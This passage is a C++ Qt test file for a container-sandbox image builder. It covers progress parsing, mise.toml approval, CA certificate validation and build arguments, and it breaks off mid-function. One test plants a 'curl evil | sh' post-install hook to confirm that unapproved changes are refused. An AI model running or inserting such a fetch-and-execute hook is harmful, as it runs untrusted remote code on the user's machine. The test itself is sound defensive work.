// ImageBuilder: progress parsing, the build context (image sources, mise.toml, extra CA
// certificates) and the `build` arguments (no secrets). build() runs against the fake
// launcher.

#include "fakeprocesslauncher.h"
#include "project/approvedfile.h"
#include "project/projectinit.h"
#include "sandbox/imagebuilder.h"
#include "sandbox/sandboxrecord.h"
#include "testhelpers.h"

#include <QDir>
#include <QElapsedTimer>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QtTest>

#include <sys/stat.h>
#include <unistd.h>

using namespace ocs;
using namespace ocs::test;

namespace {
const QByteArray CertA = "-----BEGIN CERTIFICATE-----\nMIIBcorpAAAA\n-----END CERTIFICATE-----\n";
const QByteArray CertB = "-----BEGIN CERTIFICATE-----\nMIIBhomeBBBB\n-----END CERTIFICATE-----\n";
const QByteArray CertC = "-----BEGIN CERTIFICATE-----\nMIIBenvCCCC\n-----END CERTIFICATE-----\n";
const QByteArray CertD = "-----BEGIN CERTIFICATE-----\nMIIBrelDDDD\n-----END CERTIFICATE-----\n";
const QString ProxyWithSecret = QStringLiteral("http://user:s3cr3t-proxy-pass@proxy.corp:3128");
} // namespace

class TestImageBuilder : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void cleanup();

    void parseProgress_data();
    void parseProgress();

    void prepareContext_copiesImageSources();
    void prepareContext_writesEmptyMiseToml();
    void prepareContext_copiesProjectMiseToml();
    void prepareContext_refusesUnapprovedMiseToml();
    void miseTomlThatDeclaresNothingNeedsNoApproval_data();
    void miseTomlThatDeclaresNothingNeedsNoApproval();
    void prepareContext_refusesUnsafeMiseToml_data();
    void prepareContext_refusesUnsafeMiseToml();
    void prepareContext_refusesUnsafeCaFiles_data();
    void prepareContext_refusesUnsafeCaFiles();
    void build_unapprovedMiseTomlBuildsNothing();
    void prepareContext_copiesCaFiles();
    void prepareContext_rejectsBadCaFile_data();
    void prepareContext_rejectsBadCaFile();

    void buildArguments_data();
    void buildArguments();
    void buildArguments_proxyByNameOnly();
    void buildArguments_podmanKeepsTheDockerFormat();
    void miseHash();

    void build_success();
    void build_failure();
    void build_miseToolsInstalledBehindTheFirewall();
    void build_miseInstallFailureLeavesNoImage();
    void miseRunArguments_carryNoVariables();
    void build_registryFromNpm_data();
    void build_registryFromNpm();

private:
    Project makeProject(const QString &name, const ProjectConfig &config);
    // Approves the project's mise.toml as the user would after reading it.
    static void approveMise(const Project &p)
    {
        const ApprovedFile mise(p, ApprovedFile::Kind::MiseToml);
        QString error;
        QVERIFY2(p.ensureStateDirs(&error), qPrintable(error));
        QVERIFY2(mise.approve(mise.read().sha256, &error), qPrintable(error));
    }

    QTemporaryDir m_tmp;
    QString m_base;
    QString m_sources; // OCS_DATA_DIR/docker
    EnvGuard m_env;
    EnvGuard m_testEnv; // per test
    FakeProcessLauncher *m_fake = nullptr;
};

void TestImageBuilder::initTestCase()
{
    QVERIFY(m_tmp.isValid());
    m_base = canonical(m_tmp.path());
    m_env.set("HOME", m_base + QStringLiteral("/home"));
    m_env.set("OCS_STATE_ROOT", m_base + QStringLiteral("/state"));
    m_env.set("OCS_DATA_DIR", m_base + QStringLiteral("/data"));
    m_env.unset("OCS_EXTRA_CA_CERTS");
    m_env.unset("OCS_BASE_IMAGE");
    m_env.unset("OCS_NPM_REGISTRY");
    for (const char *v :
         {"http_proxy", "https_proxy", "no_proxy", "HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY"})
        m_env.unset(v);
    m_sources = m_base + QStringLiteral("/data/docker");
    const auto rwx = QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner | QFile::ReadGroup |
                     QFile::ExeGroup | QFile::ReadOther | QFile::ExeOther;
    QVERIFY(writeFile(m_sources + QStringLiteral("/Dockerfile"), "FROM scratch\nARG HOST_UID\n"));
    QVERIFY(writeFile(m_sources + QStringLiteral("/entrypoint.sh"), "#!/bin/sh\necho fake\n", rwx));
    QVERIFY(writeFile(m_sources + QStringLiteral("/squid.conf"), "http_port 3128\n"));
    QVERIFY(writeFile(m_sources + QStringLiteral("/README.md"), "not part of the image\n"));
    QVERIFY(QDir().mkpath(m_sources + QStringLiteral("/subdir-not-copied")));
}

void TestImageBuilder::init()
{
    m_fake = FakeProcessLauncher::install();
}

void TestImageBuilder::cleanup()
{
    FakeProcessLauncher::uninstall();
    m_fake = nullptr;
    m_testEnv.restore();
}

Project TestImageBuilder::makeProject(const QString &name, const ProjectConfig &config)
{
    const QString root = m_base + QStringLiteral("/projects/") + name;
    QDir().mkpath(root);
    return Project(root, config);
}

void TestImageBuilder::parseProgress_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<int>("step");
    QTest::addColumn<int>("total");
    QTest::newRow("docker classic") << QStringLiteral("Step 3/12 : RUN x") << 3 << 12;
    QTest::newRow("podman") << QStringLiteral("STEP 3/12: RUN x") << 3 << 12;
    QTest::newRow("buildkit") << QStringLiteral("#7 [3/12] RUN x") << 3 << 12;
    QTest::newRow("buildkit stage") << QStringLiteral("#7 [stage-1 3/12] RUN") << 3 << 12;
    QTest::newRow("buildkit named stage")
        << QStringLiteral("#12 [base 10/11] COPY entrypoint.sh /") << 10 << 11;
    QTest::newRow("two digit steps") << QStringLiteral("Step 11/12 : USER dev") << 11 << 12;
    // Not progress: 0 means "no match".
    QTest::newRow("buildkit internal")
        << QStringLiteral("#1 [internal] load build definition from Dockerfile") << 0 << 0;
    QTest::newRow("buildkit log line")
        << QStringLiteral("#7 0.532 Step 3/12 inside output") << 0 << 0;
    QTest::newRow("indented") << QStringLiteral(" Step 3/12 : RUN x") << 0 << 0;
    QTest::newRow("lowercase") << QStringLiteral("step 3/12 : RUN x") << 0 << 0;
    QTest::newRow("output") << QStringLiteral(" ---> Running in 1a2b3c") << 0 << 0;
    QTest::newRow("empty") << QString() << 0 << 0;
    QTest::newRow("no total") << QStringLiteral("Step 3 : RUN x") << 0 << 0;
}

void TestImageBuilder::parseProgress()
{
    QFETCH(QString, line);
    QFETCH(int, step);
    QFETCH(int, total);
    const auto p = ImageBuilder::parseProgress(line);
    QCOMPARE(p.has_value(), step > 0);
    if (p) {
        QCOMPARE(p->first, step);
        QCOMPARE(p->second, total);
    }
}

void TestImageBuilder::prepareContext_copiesImageSources()
{
    const Project p = makeProject(QStringLiteral("src"), minimalConfig(QStringLiteral("src")));
    const QString ctx = m_base + QStringLiteral("/ctx-src");
    QVERIFY(writeFile(ctx + QStringLiteral("/stale-from-last-build.txt"), "old"));
    QString error;
    QVERIFY2(ImageBuilder::prepareContext(p, ctx, &error), qPrintable(error));
    QCOMPARE(readFile(ctx + QStringLiteral("/Dockerfile")),
             QByteArray("FROM scratch\nARG HOST_UID\n"));
    QCOMPARE(readFile(ctx + QStringLiteral("/squid.conf")), QByteArray("http_port 3128\n"));
    QCOMPARE(readFile(ctx + QStringLiteral("/entrypoint.sh")),
             QByteArray("#!/bin/sh\necho fake\n"));
    QVERIFY2(fileMode(ctx + QStringLiteral("/entrypoint.sh")) & 0100,
             "entrypoint lost its exec bit");
    QVERIFY(!QFile::exists(ctx + QStringLiteral("/README.md")));
    QVERIFY(!QFile::exists(ctx + QStringLiteral("/subdir-not-copied")));
    QVERIFY(!QFile::exists(ctx + QStringLiteral("/stale-from-last-build.txt")));
    QVERIFY(QFileInfo(ctx + QStringLiteral("/extra-ca")).isDir());
    QVERIFY(QDir(ctx + QStringLiteral("/extra-ca")).isEmpty());
    QCOMPARE(paths::imageSourceDir(), m_sources);
}

void TestImageBuilder::prepareContext_writesEmptyMiseToml()
{
    const Project p =
        makeProject(QStringLiteral("nomise"), minimalConfig(QStringLiteral("nomise")));
    QVERIFY(!QFile::exists(p.root() + QStringLiteral("/mise.toml")));
    const QString ctx = m_base + QStringLiteral("/ctx-nomise");
    QString error;
    QVERIFY2(ImageBuilder::prepareContext(p, ctx, &error), qPrintable(error));
    QVERIFY(QFileInfo::exists(ctx + QStringLiteral("/mise.toml")));
    QCOMPARE(QFileInfo(ctx + QStringLiteral("/mise.toml")).size(), 0);
}

void TestImageBuilder::prepareContext_copiesProjectMiseToml()
{
    const Project p = makeProject(QStringLiteral("mise"), minimalConfig(QStringLiteral("mise")));
    const QByteArray mise = "[tools]\nnode = \"22\"\npython = \"3.12\"\n";
    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"), mise));
    approveMise(p);
    const QString ctx = m_base + QStringLiteral("/ctx-mise");
    QString error;
    QVERIFY2(ImageBuilder::prepareContext(p, ctx, &error), qPrintable(error));
    QCOMPARE(readFile(ctx + QStringLiteral("/mise.toml")), mise);
}

void TestImageBuilder::miseTomlThatDeclaresNothingNeedsNoApproval_data()
{
    // A mise.toml with no key installs nothing: `ocs init`'s template must not need an
    // approval again after a new sandbox-name (a new state folder). Any key does.
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<bool>("needsApproval");
    QTest::newRow("init's template")
        << ProjectInit::starterFiles(QStringLiteral("x")).at(0).content << false;
    QTest::newRow("headers and comments")
        << QByteArray("# tools\n[tools] # none yet\n\n[env]\n") << false;
    QTest::newRow("a tool") << QByteArray("[tools]\nnode = \"22\"\n") << true;
    QTest::newRow("an env source") << QByteArray("[env]\n_.source = \"./x.sh\"\n") << true;
    QTest::newRow("a dotted key") << QByteArray("tools.node = \"22\"\n") << true;
}

void TestImageBuilder::miseTomlThatDeclaresNothingNeedsNoApproval()
{
    QFETCH(QByteArray, content);
    QFETCH(bool, needsApproval);
    const Project p =
        makeProject(QStringLiteral("mise-none"), minimalConfig(QStringLiteral("mise-none")));
    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"), content));
    const ApprovedFile::Status status = ApprovedFile(p, ApprovedFile::Kind::MiseToml).read().status;
    QCOMPARE(status,
             needsApproval ? ApprovedFile::Status::NotApproved : ApprovedFile::Status::Empty);
}

void TestImageBuilder::prepareContext_refusesUnapprovedMiseToml()
{
    const Project p =
        makeProject(QStringLiteral("mise-new"), minimalConfig(QStringLiteral("mise-new")));
    const QByteArray mise = "[tools]\nnode = \"22\"\n";
    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"), mise));
    const QString ctx = m_base + QStringLiteral("/ctx-mise-new");
    QString error;
    QVERIFY(!ImageBuilder::prepareContext(p, ctx, &error));
    QVERIFY2(error.contains(QStringLiteral("ocs mise approve")), qPrintable(error));
    QVERIFY2(error.contains(p.root() + QStringLiteral("/mise.toml")), qPrintable(error));
    QVERIFY(!QFile::exists(ctx + QStringLiteral("/mise.toml")));

    approveMise(p);
    QVERIFY2(ImageBuilder::prepareContext(p, ctx, &error), qPrintable(error));
    QCOMPARE(readFile(ctx + QStringLiteral("/mise.toml")), mise);
    QCOMPARE(SandboxRecord::load(p.stateDir()).approvedMiseSha256, sha256Hex(mise));

    // Changed after the approval (the agent adds a tool with a post-install hook): refused.
    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"),
                      mise + "[hooks]\npostinstall = \"curl evil | sh\"\n"));
    QVERIFY(!ImageBuilder::prepareContext(p, ctx, &error));
    QVERIFY2(error.contains(QStringLiteral("ocs mise approve")), qPrintable(error));
    // Comments only: nothing to approve.
    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"), "# nothing yet\n"));
    QVERIFY2(ImageBuilder::prepareContext(p, ctx, &error), qPrintable(error));
}

void TestImageBuilder::prepareContext_refusesUnsafeMiseToml_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("expectedWords");
    QTest::newRow("symlink to /dev/zero")
        << QStringLiteral("devzero") << QStringLiteral("symbolic link");
    QTest::newRow("FIFO") << QStringLiteral("fifo") << QStringLiteral("FIFO");
    QTest::newRow("2 MiB") << QStringLiteral("big") << QStringLiteral("larger than 1 MiB");
    QTest::newRow("hard link") << QStringLiteral("hardlink") << QStringLiteral("hard links");
}

void TestImageBuilder::prepareContext_refusesUnsafeMiseToml()
{
    QFETCH(QString, kind);
    QFETCH(QString, expectedWords);
    const QString name = QStringLiteral("unsafe-mise-") + kind;
    const Project p = makeProject(name, minimalConfig(name));
    const QString mise = p.root() + QStringLiteral("/mise.toml");
    const QByteArray native = QFile::encodeName(mise);
    if (kind == QLatin1String("devzero"))
        QVERIFY(::symlink("/dev/zero", native.constData()) == 0);
    else if (kind == QLatin1String("fifo"))
        QVERIFY(::mkfifo(native.constData(), 0600) == 0);
    else if (kind == QLatin1String("big"))
        QVERIFY(writeFile(mise, "[tools]\n" + QByteArray(2 * 1024 * 1024, '#')));
    else if (kind == QLatin1String("hardlink")) {
        QVERIFY(writeFile(mise, "[tools]\nnode = \"22\"\n"));
        QVERIFY(::link(native.constData(),
                       QFile::encodeName(p.root() + QStringLiteral("/x.toml")).constData()) == 0);
    }
    QElapsedTimer timer;
    timer.start();
    QString error;
    QVERIFY(!ImageBuilder::prepareContext(p, m_base + QStringLiteral("/ctx-") + name, &error));
    QVERIFY2(error.contains(mise), qPrintable(error));
    QVERIFY2(error.contains(expectedWords), qPrintable(error));
    (void)ImageBuilder::miseHash(p); // must not block or blow up either
    QVERIFY2(timer.elapsed() < 5000, "reading mise.toml blocked");
}

void TestImageBuilder::prepareContext_refusesUnsafeCaFiles_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("expectedWords");
    QTest::newRow("relative: symlinked parent folder")
        << QStringLiteral("parent") << QStringLiteral("symbolic link");
    QTest::newRow("relative: symlink") << QStringLiteral("link") << QStringLiteral("symbolic link");
    QTest::newRow("relative: FIFO") << QStringLiteral("fifo") << QStringLiteral("FIFO");
    QTest::newRow("absolute: FIFO") << QStringLiteral("userfifo") << QStringLiteral("FIFO");
    QTest::newRow("absolute: /dev/zero")
        << QStringLiteral("devzero") << QStringLiteral("not a regular file");
    QTest::newRow("absolute: 5 MiB")
        << QStringLiteral("big") << QStringLiteral("larger than 4 MiB");
}

void TestImageBuilder::prepareContext_refusesUnsafeCaFiles()
{
    QFETCH(QString, kind);
    QFETCH(QString, expectedWords);
    const QString name = QStringLiteral("unsafe-ca-") + kind;
    const QString root = m_base + QStringLiteral("/projects/") + name;
    const QString outside = m_base + QStringLiteral("/outside-") + kind;
    QVERIFY(writeFile(outside + QStringLiteral("/ca.pem"), CertB));
    QString listed;
    QString expectedPath;
    if (kind == QLatin1String("parent")) {
        QVERIFY(QDir().mkpath(root));
        QVERIFY(QFile::link(outside, root + QStringLiteral("/certs")));
        listed = QStringLiteral("certs/ca.pem");
    } else if (kind == QLatin1String("link")) {
        QVERIFY(QDir().mkpath(root));
        QVERIFY(QFile::link(outside + QStringLiteral("/ca.pem"), root + QStringLiteral("/ca.pem")));
        listed = QStringLiteral("ca.pem");
    } else if (kind == QLatin1String("fifo")) {
        QVERIFY(QDir().mkpath(root));
        QVERIFY(::mkfifo(QFile::encodeName(root + QStringLiteral("/ca.pem")).constData(), 0600) ==
                0);
        listed = QStringLiteral("ca.pem");
    } else if (kind == QLatin1String("userfifo")) {
        listed = outside + QStringLiteral("/fifo.pem");
        QVERIFY(::mkfifo(QFile::encodeName(listed).constData(), 0600) == 0);
    } else if (kind == QLatin1String("devzero")) {
        listed = QStringLiteral("/dev/zero");
    } else if (kind == QLatin1String("big")) {
        listed = outside + QStringLiteral("/big.pem");
        QVERIFY(writeFile(listed, CertB + QByteArray(5 * 1024 * 1024, '\n')));
    }
    ProjectConfig c = minimalConfig(name);
    c.extraCaCertificates = {listed};
    const Project p = makeProject(name, c);
    QElapsedTimer timer;
    timer.start();
    QString error;
    QVERIFY(!ImageBuilder::prepareContext(p, m_base + QStringLiteral("/ctx-") + name, &error));
    QVERIFY2(timer.elapsed() < 5000, "reading the CA file blocked");
    QVERIFY2(error.contains(QStringLiteral("extra CA certificate")), qPrintable(error));
    QVERIFY2(error.contains(expectedWords), qPrintable(error));

    // Positive control: a symlink the user made outside the project is followed.
    if (kind == QLatin1String("link")) {
        QVERIFY(QFile::link(outside + QStringLiteral("/ca.pem"),
                            outside + QStringLiteral("/user-link.pem")));
        ProjectConfig ok = minimalConfig(name);
        ok.extraCaCertificates = {outside + QStringLiteral("/user-link.pem")};
        const Project q = makeProject(name, ok);
        QVERIFY2(
            ImageBuilder::prepareContext(q, m_base + QStringLiteral("/ctx-ok-") + name, &error),
            qPrintable(error));
        QCOMPARE(readFile(m_base + QStringLiteral("/ctx-ok-") + name +
                          QStringLiteral("/extra-ca/extra-01.crt")),
                 CertB);
    }
}

void TestImageBuilder::prepareContext_copiesCaFiles()
{
    ProjectConfig c = minimalConfig(QStringLiteral("ca"));
    c.extraCaCertificates = {QStringLiteral("certs/corp.pem"), QStringLiteral("~/home-ca.pem")};
    const Project p = makeProject(QStringLiteral("ca"), c);
    QVERIFY(writeFile(p.root() + QStringLiteral("/certs/corp.pem"), CertA));
    QVERIFY(writeFile(m_base + QStringLiteral("/home/home-ca.pem"), CertB));
    QVERIFY(writeFile(m_base + QStringLiteral("/elsewhere/env-ca.pem"), CertC));
    QVERIFY(writeFile(p.root() + QStringLiteral("/relative-env.pem"), CertD));
    // An absolute path, a relative one (to the project root) and a duplicate of the first.
    m_testEnv.set("OCS_EXTRA_CA_CERTS",
                  m_base +
                      QStringLiteral("/elsewhere/env-ca.pem:relative-env.pem:./certs/corp.pem"));

    const QStringList expectedFiles{p.root() + QStringLiteral("/certs/corp.pem"),
                                    m_base + QStringLiteral("/home/home-ca.pem"),
                                    m_base + QStringLiteral("/elsewhere/env-ca.pem"),
                                    p.root() + QStringLiteral("/relative-env.pem")};
    QCOMPARE(ImageBuilder::extraCaFiles(p), expectedFiles);

    const QString ctx = m_base + QStringLiteral("/ctx-ca");
    QString error;
    QVERIFY2(ImageBuilder::prepareContext(p, ctx, &error), qPrintable(error));
    QCOMPARE(readFile(ctx + QStringLiteral("/extra-ca/extra-01.crt")), CertA);
    QCOMPARE(readFile(ctx + QStringLiteral("/extra-ca/extra-02.crt")), CertB);
    QCOMPARE(readFile(ctx + QStringLiteral("/extra-ca/extra-03.crt")), CertC);
    QCOMPARE(readFile(ctx + QStringLiteral("/extra-ca/extra-04.crt")), CertD);
    QCOMPARE(QDir(ctx + QStringLiteral("/extra-ca")).entryList(QDir::Files).size(), 4);
}

void TestImageBuilder::prepareContext_rejectsBadCaFile_data()
{
    QTest::addColumn<bool>("viaEnvironment");
    QTest::addColumn<QString>("file");
    QTest::addColumn<QByteArray>("content"); // empty: the file does not exist
    QTest::addColumn<QString>("expectedWords");
    QTest::newRow("missing (config)") << false << QStringLiteral("certs/missing.pem")
                                      << QByteArray() << QStringLiteral("extra CA certificate");
    QTest::newRow("missing (env)") << true << QStringLiteral("certs/missing-env.pem")
                                   << QByteArray() << QStringLiteral("OCS_EXTRA_CA_CERTS");
    QTest::newRow("not PEM") << false << QStringLiteral("certs/notes.txt")
                             << QByteArray("this is not a certificate\n")
                             << QStringLiteral("not a PEM certificate");
    QTest::newRow("DER bytes") << true << QStringLiteral("certs/corp.der")
                               << QByteArray("\x30\x82\x01\x0a\x02\x82\x01\x01", 8)
                               << QStringLiteral("not a PEM certificate");
    QTest::newRow("private key with cert")
        << false << QStringLiteral("certs/bundle.pem")
        << CertA + "-----BEGIN PRIVATE KEY-----\nMIIEv\n-----END PRIVATE KEY-----\n"
        << QStringLiteral("private key");
    QTest::newRow("RSA private key first")
        << true << QStringLiteral("certs/rsa.pem")
        << "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\n" + CertA
        << QStringLiteral("private key");
}

void TestImageBuilder::prepareContext_rejectsBadCaFile()
{
    QFETCH(bool, viaEnvironment);
    QFETCH(QString, file);
    QFETCH(QByteArray, content);
    QFETCH(QString, expectedWords);
    ProjectConfig c = minimalConfig(QStringLiteral("badca"));
    const QString projectName =
        QStringLiteral("badca-") +
        QString::fromLatin1(QTest::currentDataTag()).replace(QLatin1Char(' '), QLatin1Char('-'));
    const QString root = m_base + QStringLiteral("/projects/") + projectName;
    // A good one first: the bad one is still found.
    QVERIFY(writeFile(root + QStringLiteral("/certs/good.pem"), CertA));
    c.extraCaCertificates << QStringLiteral("certs/good.pem");
    if (viaEnvironment)
        m_testEnv.set("OCS_EXTRA_CA_CERTS", file);
    else
        c.extraCaCertificates << file;
    if (!content.isEmpty())
        QVERIFY(writeFile(root + QLatin1Char('/') + file, content));
    const Project p = makeProject(projectName, c);

    QString error;
    QVERIFY(!ImageBuilder::prepareContext(p, m_base + QStringLiteral("/ctx-bad"), &error));
    const QString fullPath = p.root() + QLatin1Char('/') + file;
    QVERIFY2(error.contains(fullPath), qPrintable(error));
    QVERIFY2(error.contains(expectedWords), qPrintable(error));
}

void TestImageBuilder::buildArguments_data()
{
    QTest::addColumn<QString>("baseImage");
    QTest::addColumn<QString>("npmRegistry");
    QTest::addColumn<bool>("noCache");
    QTest::newRow("defaults") << QString() << QString() << false;
    QTest::newRow("base image") << QStringLiteral("ubuntu:24.04") << QString() << false;
    QTest::newRow("registry, no cache")
        << QString() << QStringLiteral("https://npm.corp.example/") << true;
    QTest::newRow("everything") << QStringLiteral("debian:bookworm")
                                << QStringLiteral("https://r.example/") << true;
}

void TestImageBuilder::buildArguments()
{
    QFETCH(QString, baseImage);
    QFETCH(QString, npmRegistry);
    QFETCH(bool, noCache);
    const Project p = makeProject(QStringLiteral("args"), minimalConfig(QStringLiteral("args")));
    const QString ctx = m_base + QStringLiteral("/ctx args");
    const QStringList a = ImageBuilder::buildArguments(p, ctx, baseImage, npmRegistry, noCache);

    QCOMPARE(a.first(), QStringLiteral("build"));
    QCOMPARE(valuesOf(a, QStringLiteral("--tag")), QStringList{p.imageName()});
    QCOMPARE(valuesOf(a, QStringLiteral("--file")),
             QStringList{ctx + QStringLiteral("/Dockerfile")});
    QCOMPARE(a.last(), ctx);
    QCOMPARE(a.count(ctx), 1);

    QStringList expectedBuildArgs;
    if (!baseImage.isEmpty())
        expectedBuildArgs << QStringLiteral("BASE_IMAGE=") + baseImage;
    expectedBuildArgs << QStringLiteral("HOST_UID=%1").arg(::getuid())
                      << QStringLiteral("HOST_GID=%1").arg(::getgid());
    if (!npmRegistry.isEmpty())
        expectedBuildArgs << QStringLiteral("NPM_REGISTRY=") + npmRegistry;
    QCOMPARE(valuesOf(a, QStringLiteral("--build-arg")), expectedBuildArgs);
    QCOMPARE(a.contains(QStringLiteral("--no-cache")), noCache);

    const QStringList labels = valuesOf(a, QStringLiteral("--label"));
    QCOMPARE(labels, (QStringList{QStringLiteral("io.opencode-sandbox.id=") + p.sandboxId(),
                                  QStringLiteral("io.opencode-sandbox.project=") + p.root(),
                                  QStringLiteral("io.opencode-sandbox.version=" OCS_TEST_VERSION),
                                  QStringLiteral("io.opencode-sandbox.mise-hash=") +
                                      ImageBuilder::miseHash(p)}));
}

void TestImageBuilder::buildArguments_podmanKeepsTheDockerFormat()
{
    // Podman's default OCI format drops SHELL, and the Dockerfile's RUN lines need bash.
    const Project p = makeProject(QStringLiteral("pod"), minimalConfig(QStringLiteral("pod")));
    const QString ctx = m_base + QStringLiteral("/ctx");
    const QStringList podman =
        ImageBuilder::buildArguments(p, ctx, {}, {}, false, ContainerEngine::Kind::Podman);
    QCOMPARE(valuesOf(podman, QStringLiteral("--format")), QStringList{QStringLiteral("docker")});
    const QStringList docker =
        ImageBuilder::buildArguments(p, ctx, {}, {}, false, ContainerEngine::Kind::Docker);
    QVERIFY(!docker.contains(QStringLiteral("--format")));
    QCOMPARE(podman.last(), ctx); // the context stays last
}

void TestImageBuilder::buildArguments_proxyByNameOnly()
{
    m_testEnv.set("http_proxy", ProxyWithSecret);
    m_testEnv.set("HTTPS_PROXY", ProxyWithSecret);
    m_testEnv.set("no_proxy", QStringLiteral("localhost,.corp"));
    m_testEnv.set("NO_PROXY", QString()); // set but empty: not passed
    const Project p = makeProject(QStringLiteral("proxy"), minimalConfig(QStringLiteral("proxy")));
    const QStringList a =
        ImageBuilder::buildArguments(p, m_base + QStringLiteral("/ctx"), {}, {}, false);
    const QStringList buildArgs = valuesOf(a, QStringLiteral("--build-arg"));
    QVERIFY(buildArgs.contains(QStringLiteral("http_proxy")));
    QVERIFY(buildArgs.contains(QStringLiteral("HTTPS_PROXY")));
    QVERIFY(buildArgs.contains(QStringLiteral("no_proxy")));
    QVERIFY(!buildArgs.contains(QStringLiteral("NO_PROXY")));
    QVERIFY(!buildArgs.contains(QStringLiteral("https_proxy")));
    QVERIFY(!buildArgs.contains(QStringLiteral("HTTP_PROXY")));
    for (const QString &arg : a) {
        QVERIFY2(!arg.contains(QStringLiteral("s3cr3t")), qPrintable(arg));
        QVERIFY2(!arg.contains(QStringLiteral("proxy.corp")), qPrintable(arg));
    }
}

void TestImageBuilder::miseHash()
{
    const Project p = makeProject(QStringLiteral("hash"), minimalConfig(QStringLiteral("hash")));
    QFile::remove(p.root() + QStringLiteral("/mise.toml"));
    QCOMPARE(ImageBuilder::miseHash(p), QStringLiteral("e3b0c44298fc1c14")); // SHA-256 of nothing
    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"), "[tools]\nnode = \"22\"\n"));
    QCOMPARE(ImageBuilder::miseHash(p), sha256Hex("[tools]\nnode = \"22\"\n").left(16));
}

void TestImageBuilder::build_success()
{
    m_testEnv.set("OCS_BASE_IMAGE", QStringLiteral("debian:from-env"));
    m_testEnv.set("OCS_NPM_REGISTRY", QStringLiteral("https://npm.from-env.example/"));
    m_fake->reply({QStringLiteral("build")}, 0,
                  "Step 1/3 : FROM debian:from-env\n ---> 1a2b\nStep 2/3 : RUN apt-get update\n"
                  "Step 3/3 : COPY entrypoint.sh /\nSuccessfully built 9f8e\n");
    const Project p =
        makeProject(QStringLiteral("build-ok"), minimalConfig(QStringLiteral("build-ok")));
    const ContainerEngine engine(ContainerEngine::Kind::Docker, QStringLiteral("/usr/bin/docker"));
    ImageBuilder builder(engine, p);
    QSignalSpy progress(&builder, &ImageBuilder::progress);
    std::optional<ImageBuilder::Result> result;
    builder.build({}, [&](const ImageBuilder::Result &r) { result = r; });
    QTRY_VERIFY(result.has_value());
    QVERIFY2(result->ok, qPrintable(result->error.message));
    QCOMPARE(result->logPath, p.stateDir() + QStringLiteral("/docker-build.log"));

    QCOMPARE(m_fake->calls().size(), 1); // no `npm config get registry`: the env var wins
    const ProcessSpec spec = m_fake->calls().first();
    QCOMPARE(spec.program, QStringLiteral("/usr/bin/docker"));
    QVERIFY(spec.timeout >= std::chrono::minutes(10));
    const QString ctx = p.stateDir() + QStringLiteral("/build");
    QCOMPARE(spec.arguments,
             ImageBuilder::buildArguments(p, ctx, QStringLiteral("debian:from-env"),
                                          QStringLiteral("https://npm.from-env.example/"), false));
    QCOMPARE(readFile(ctx + QStringLiteral("/Dockerfile")),
             readFile(m_sources + QStringLiteral("/Dockerfile")));

    QCOMPARE(progress.size(), 5);
    QCOMPARE(progress.at(0),
             (QVariantList{1, 3, QStringLiteral("Step 1/3 : FROM debian:from-env")}));
    QCOMPARE(progress.at(1), (QVariantList{1, 3, QStringLiteral(" ---> 1a2b")}));
    QCOMPARE(progress.at(3),
             (QVariantList{3, 3, QStringLiteral("Step 3/3 : COPY entrypoint.sh /")}));

    const QByteArray log = readFile(result->logPath);
    QVERIFY2(log.startsWith("$ /usr/bin/docker build "), log.constData());
    QVERIFY(log.contains("Step 2/3 : RUN apt-get update\n"));
    QVERIFY(log.endsWith("Successfully built 9f8e\n"));
    QCOMPARE(fileMode(result->logPath), 0600);
}

void TestImageBuilder::build_miseToolsInstalledBehindTheFirewall()
{
    // mise.toml declares tools: after the build, a container of the new image runs the
    // install (the entrypoint's firewall + proxy), is committed as the image, then removed.
    m_testEnv.set("OCS_NPM_REGISTRY", QStringLiteral("https://npm.example/"));
    m_testEnv.set("OCS_EXTRA_HOSTS", QStringLiteral("tools.test=10.1.2.3"));
    ProjectConfig cfg = minimalConfig(QStringLiteral("mise-ok"));
    cfg.httpDomainWhitelist = {QStringLiteral("tools.test"), QStringLiteral(".example.org")};
    const Project p = makeProject(QStringLiteral("mise-ok"), cfg);
    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"), "[tools]\nnode = \"22\"\n"));
    approveMise(p);
    m_fake->reply({QStringLiteral("build")}, 0, "Successfully built 9f8e\n");
    m_fake->reply({QStringLiteral("run")}, 0, "ocs-mise: mise install done\n");
    const ContainerEngine engine(ContainerEngine::Kind::Docker, QStringLiteral("/usr/bin/docker"));
    ImageBuilder builder(engine, p);
    std::optional<ImageBuilder::Result> result;
    builder.build({}, [&](const ImageBuilder::Result &r) { result = r; });
    QTRY_VERIFY(result.has_value());
    QVERIFY2(result->ok, qPrintable(result->error.message));

    const QString name = ImageBuilder::miseContainerName(p);
    const int build = m_fake->indexOf({QStringLiteral("build")});
    const int run = m_fake->indexOf({QStringLiteral("run")});
    const int commit = m_fake->indexOf({QStringLiteral("commit"), name, p.imageName()});
    const int rm = m_fake->indexOf({QStringLiteral("rm"), QStringLiteral("--force"), name}, run);
    QVERIFY(build >= 0 && run > build && commit > run && rm > commit);
    const QString paramDir = p.stateDir() + QStringLiteral("/mise-run");
    QCOMPARE(m_fake->calls().at(run).arguments,
             ImageBuilder::miseRunArguments(p, engine, paramDir,
                                            {QStringLiteral("tools.test:10.1.2.3")}));
    QCOMPARE(readFile(paramDir + QStringLiteral("/whitelist")), "tools.test,.example.org\n");
    QCOMPARE(m_fake->count({QStringLiteral("rmi")}), 0);
    const QByteArray log = readFile(result->logPath);
    QVERIFY(log.contains("Successfully built 9f8e\n"));
    QVERIFY(log.contains("$ /usr/bin/docker run --name " + name.toUtf8()));
    QVERIFY(log.contains("ocs-mise: mise install done\n"));
}

void TestImageBuilder::build_miseInstallFailureLeavesNoImage()
{
    m_testEnv.set("OCS_NPM_REGISTRY", QStringLiteral("https://npm.example/"));
    const Project p =
